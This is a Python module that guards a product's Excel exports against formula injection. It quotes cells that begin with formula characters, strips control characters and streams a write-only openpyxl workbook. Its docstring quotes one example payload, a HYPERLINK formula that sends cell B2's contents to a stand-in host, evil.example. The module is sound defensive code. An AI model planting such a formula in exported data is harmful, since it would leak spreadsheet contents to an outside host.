"""Every Excel workbook the product writes goes through here, so that no stored text can harm the
person who opens it or break the file.

- A text a spreadsheet would evaluate — one that begins with `=`, `+`, `-`, `@`, a tab or a
  carriage return (`=HYPERLINK("http://evil.example/?"&B2,"点此")` in an appeal's title) — is
  written behind an apostrophe: it shows as the text it is and never runs as a formula.
- Characters a workbook cannot hold (the control characters other than tab, line feed and
  carriage return) are removed, so one hostile text never fails a whole export.

Writers use `cell_value`/`row_values` on what they append, or `Sheets`, the write-only workbook
that does it for them and streams itself.
"""

from __future__ import annotations

import re
import tempfile
from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import IO, Any

# What openpyxl refuses (`openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE`, spelled here so that openpyxl
# is imported only when someone writes a workbook, not by every process at start-up).
ILLEGAL_CHARACTERS_RE = re.compile(r"[\000-\010]|[\013-\014]|[\016-\037]")
# The first characters that make Excel, LibreOffice or WPS read a cell as a formula (a tab or a
# carriage return before one of the others still does, when the sheet is pasted or imported).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell_value(value: Any) -> Any:
    """The value as it is safe to write: text cleaned and, if a spreadsheet would evaluate it,
    quoted; numbers, dates and empty cells as they are."""
    if not isinstance(value, str):
        return value
    value = ILLEGAL_CHARACTERS_RE.sub("", value)
    if value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def row_values(values: Iterable[Any]) -> list[Any]:
    return [cell_value(v) for v in values]


class Sheet:
    def __init__(self, sheet: Any) -> None:
        self._sheet = sheet

    def append(self, values: Iterable[Any]) -> None:
        self._sheet.append(row_values(values))


class Sheets:
    """A write-only workbook whose every cell passes through `cell_value`."""

    def __init__(self) -> None:
        from openpyxl import Workbook

        self.workbook = Workbook(write_only=True)

    def sheet(self, title: str) -> Sheet:
        return Sheet(self.workbook.create_sheet(title))

    def save(self, out: str | Path | IO[bytes]) -> None:
        self.workbook.save(out)

    def stream(self) -> Iterator[bytes]:
        """The saved file, in pieces for a streamed answer (written to a temporary file first: a
        zip is finished only at its end)."""
        with tempfile.TemporaryFile() as handle:
            self.workbook.save(handle)
            handle.seek(0)
            while data := handle.read(64 * 1024):
                yield data
